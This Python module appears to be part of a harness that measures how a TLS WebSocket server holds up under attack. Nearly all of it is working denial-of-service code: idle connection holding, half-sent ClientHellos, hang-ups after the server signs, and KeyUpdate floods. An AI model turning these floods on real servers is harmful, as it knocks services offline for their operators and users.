"""TLS: what a handshake costs a server before it knows anything of its client, and what it keeps for each."""

import select
import ssl
import time

from attack import Service, attack
from crowd import Plan, crowd
from opening import ContenderError, Opener
from openssl import OpenSsl, TlsConnection, TlsError
from target import Tally, Target
from wire import handshake, upgraded

#: The first byte of a TLS record that belongs to a handshake.
HANDSHAKE = b"\x16"

#: Seconds that one connection may take to open, even where that is longer than the attack.
PATIENCE = 5.0

#: Bytes of a KeyUpdate as a record: its head, the message, the true type of its content, and the tag.
LENGTH = 5 + 5 + 1 + 16

#: Key updates of one connection in a row, before the others have their turn.
IN_A_ROW = 50


def client_hello() -> bytes:
    """The first message of a TLS handshake. Nothing in it is good for one connection only."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@attack("TLS WebSockets, idle", 500, service=Service.TLS)
def idle_tls(target: Target) -> Tally:
    """Opened one after the other; then nothing is said."""
    tally, clock, held = Tally(), target.clock(), []
    opener = Opener(
        target.port,
        protocol="ws",
        authority=target.authority,
        sources=target.addresses,
        patience=PATIENCE,
    )
    while clock.left and len(held) < target.connections:
        tally.opened += 1
        try:
            held.append(opener.open())
        except (ContenderError, OSError) as failure:
            tally.failures.add(str(failure))
    tally.got_through = len(held)
    time.sleep(clock.left)
    for connection in held:
        connection.close()
    return tally


@attack("half a ClientHello", 1000, service=Service.TLS)
def half_hellos(target: Target) -> Tally:
    """The rest of a handshake's first message never comes."""
    hello = client_hello()
    return crowd(target, Plan(first=hello[: len(hello) // 2]))


@attack("ClientHellos, hanging up at the answer", 100, service=Service.TLS)
def hellos(target: Target) -> Tally:
    """The server has signed by then, and the client has calculated nothing."""
    return crowd(target, Plan(request=client_hello(), answer=HANDSHAKE, leaves=True))


@attack("KeyUpdates that ask for one in return", 100, service=Service.TLS)
def key_updates(target: Target) -> Tally:
    """New keys for both directions, for ever; each KeyUpdate is a record of its own."""
    tally, clock = Tally(), target.clock()
    library, sources, request = OpenSsl(), target.sources(), handshake(target)
    epoll, open_ones = select.epoll(), {}
    while clock.left and len(open_ones) < target.connections:
        tally.opened += 1
        try:
            connection = library.connect(target.connect(next(sources), patience=PATIENCE))
        except (TlsError, OSError) as failure:
            tally.failures.add(str(failure))
            continue
        open_ones[connection.socket.fileno()] = connection
        try:
            accepted = upgraded() in connection.request(request)
        except TlsError as failure:
            tally.failures.add(str(failure))
        else:
            tally.got_through += accepted
        epoll.register(connection.socket, select.EPOLLIN | select.EPOLLOUT)
    while clock.left and open_ones:
        for fd, event in epoll.poll(clock.left):
            try:
                updated = keys_updated(open_ones[fd], drain=bool(event & select.EPOLLIN))
            except TlsError:
                tally.ended += 1
                open_ones.pop(fd).close()
            else:
                tally.sent += updated * LENGTH
    for connection in open_ones.values():
        connection.close()
    epoll.close()
    return tally


def keys_updated(connection: TlsConnection, *, drain: bool) -> int:
    """How many KeyUpdates could be sent now; what the server has sent is taken first, if it is to `drain`."""
    if drain:
        connection.drain()
    for done in range(IN_A_ROW):
        if not connection.update_keys():
            return done
    return IN_A_ROW


ATTACKS = (idle_tls, half_hellos, hellos, key_updates)
